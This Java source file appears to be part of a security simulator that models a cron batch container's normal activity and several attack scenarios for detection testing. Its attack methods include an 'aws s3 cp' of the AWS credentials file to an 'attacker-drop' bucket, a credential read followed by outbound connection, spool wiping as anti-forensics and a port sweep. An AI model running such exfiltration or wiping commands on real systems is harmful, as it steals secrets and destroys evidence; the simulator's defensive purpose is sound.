package io.habitus.sim;

import java.time.Duration;
import java.time.ZoneOffset;
import java.time.format.DateTimeFormatter;

/**
 * A scheduled batch container (image {@code registry.example.com/ops/reports-batch:1.8.0}): cron
 * in the foreground runs an export every few minutes ({@code sh} → {@code psql} → {@code gzip} →
 * {@code aws s3 cp}, with the AWS credentials file and a DNS lookup), an hourly spool cleanup
 * ({@code find … -exec rm}), a daily logrotate, and a liveness exec probe ({@code pgrep cron}).
 */
final class BatchJob extends Workload {

    static final String CRON = "/usr/sbin/cron";
    static final String SH = "/bin/sh";
    static final String AWS = "/usr/local/bin/aws";
    private static final String SPOOL = "/var/spool/reports/";
    private static final DateTimeFormatter STAMP = DateTimeFormatter.ofPattern("yyyyMMdd-HHmmss").withZone(ZoneOffset.UTC);
    private static final String[] REPORTS = {"orders", "refunds", "inventory", "payouts"};

    private int cron;
    private int jobShell;

    BatchJob(ContainerRun run) {
        super(run);
    }

    @Override
    public void start() {
        cron = run.init(CRON, 0, "cron", "-f");
        run.read(cron, "/etc/crontab");
        run.read(cron, "/etc/cron.d/reports");
        run.read(cron, "/etc/passwd");
        run.write(cron, "/run/crond.pid");
    }

    @Override
    public void step() {
        double dice = run.random().nextDouble();
        if (dice < 0.20) {
            export();
        } else if (dice < 0.45) {
            probe();
        } else if (dice < 0.47) {
            cleanup();
        } else if (dice < 0.474) {
            logrotate();
        } else {
            run.idle(Duration.ofSeconds(5 + run.random().nextInt(20)));
        }
        run.idleMillis(100, 3000);
    }

    private int cronJob(String command) {
        int child = run.fork(cron);
        run.read(child, "/etc/passwd");
        return run.spawn(child, SH, 0, "/bin/sh", "-c", command);
    }

    /** Every five minutes: {@code /opt/reports/bin/export.sh <report>}. */
    private void export() {
        String report = run.pick(REPORTS);
        String file = SPOOL + report + "-" + STAMP.format(run.clock()) + ".csv";
        jobShell = cronJob("/opt/reports/bin/export.sh " + report);
        run.read(jobShell, "/opt/reports/bin/export.sh");
        run.read(jobShell, "/opt/reports/etc/reports.env");
        int psql = run.spawn(jobShell, "/usr/bin/psql", 0, "psql", "-c", "\\copy " + report + " to " + file);
        run.read(psql, "/root/.pgpass");
        run.connect(psql, 5432, "10.96.12.40");
        run.write(psql, file);
        run.exit(psql);
        int gzip = run.spawn(jobShell, "/usr/bin/gzip", 0, "gzip", file);
        run.read(gzip, file);
        run.write(gzip, file + ".gz");
        run.exit(gzip);
        upload(file + ".gz");
        run.write(jobShell, "/var/log/reports/export.log");
        run.exit(jobShell);
    }

    private void upload(String file) {
        int aws = run.spawn(jobShell, AWS, 0, "aws", "s3", "cp", file, "s3://acme-reports/");
        run.read(aws, "/root/.aws/config");
        run.read(aws, "/root/.aws/credentials");
        run.read(aws, file);
        run.connectUdp(aws, 53, "10.96.0.10");
        run.connect(aws, 443, "52.216." + run.random().nextInt(255) + "." + run.random().nextInt(255));
        run.exit(aws);
    }

    /** {@code 0 * * * * find /var/spool/reports -mtime +1 -exec rm {} +}. */
    private void cleanup() {
        jobShell = cronJob("find " + SPOOL + " -mtime +1 -exec rm {} +");
        int find = run.spawn(jobShell, "/usr/bin/find", 0, "find", SPOOL, "-mtime", "+1");
        run.read(find, SPOOL);
        int rm = run.spawn(find, "/bin/rm", 0, "rm", SPOOL + "orders-old.csv.gz");
        run.exit(rm);
        run.exit(find);
        run.exit(jobShell);
    }

    /** {@code 25 6 * * * logrotate /etc/logrotate.conf}. */
    private void logrotate() {
        jobShell = cronJob("test -x /usr/sbin/logrotate && /usr/sbin/logrotate /etc/logrotate.conf");
        int logrotate = run.spawn(jobShell, "/usr/sbin/logrotate", 0, "logrotate", "/etc/logrotate.conf");
        run.read(logrotate, "/etc/logrotate.conf");
        run.read(logrotate, "/etc/logrotate.d/reports");
        run.read(logrotate, "/var/lib/logrotate/status");
        run.write(logrotate, "/var/log/reports/export.log.1");
        int gzip = run.spawn(logrotate, "/usr/bin/gzip", 0, "gzip", "/var/log/reports/export.log.1");
        run.write(gzip, "/var/log/reports/export.log.1.gz");
        run.exit(gzip);
        run.write(logrotate, "/var/lib/logrotate/status");
        run.exit(logrotate);
        run.exit(jobShell);
    }

    private void probe() {
        int pgrep = run.execIn("/usr/bin/pgrep", 0, "pgrep", "cron");
        run.read(pgrep, "/proc/1/stat");
        run.read(pgrep, "/proc/1/cmdline");
        run.exit(pgrep);
    }

    /** A scheduled job has just started: a poisoned export script now runs as the job's shell. */
    @Override
    public void attackEntry() {
        jobShell = cronJob("/opt/reports/bin/export.sh " + run.pick(REPORTS));
        run.read(jobShell, "/opt/reports/bin/export.sh");
    }

    @Override
    public int foothold() {
        return jobShell;
    }

    /** The poisoned job uploads the credentials themselves with the allowed uploader, skipping the export. */
    @Override
    public void allowedShellAbuse() {
        int aws = run.spawn(jobShell, AWS, 0, "aws", "s3", "cp", "/root/.aws/credentials", "s3://attacker-drop/");
        run.read(aws, "/root/.aws/credentials");
        run.read(aws, "/root/.pgpass");
        run.connectUdp(aws, 53, "10.96.0.10");
        run.connect(aws, 443, "52.216." + run.random().nextInt(255) + "." + run.random().nextInt(255));
        run.exit(aws);
        run.exit(jobShell);
    }

    /** The job's shell reads the credentials itself and sends them out over 443 (bash /dev/tcp). */
    @Override
    public void secretReadThenEgress() {
        run.read(jobShell, "/root/.aws/credentials");
        run.read(jobShell, "/root/.pgpass");
        run.connect(jobShell, 443, "52.216." + run.random().nextInt(255) + "." + run.random().nextInt(255));
    }

    /** The cleanup job fired again and again outside its schedule: wiping the spool (anti-forensics). */
    @Override
    public void maintenanceBurst() {
        run.exit(jobShell);
        for (int i = 0; i < 4; i++) {
            cleanup();
        }
    }

    /** psql, started by the job, tries port 5432 on many addresses. */
    @Override
    public void allowedPortSweep() {
        int psql = run.spawn(jobShell, "/usr/bin/psql", 0, "psql", "-h", "10.244.0.0");
        for (int i = 0; i < 15; i++) {
            run.connect(psql, 5432, "10.244." + run.random().nextInt(8) + "." + (2 + run.random().nextInt(250)));
        }
        run.exit(psql);
    }
}
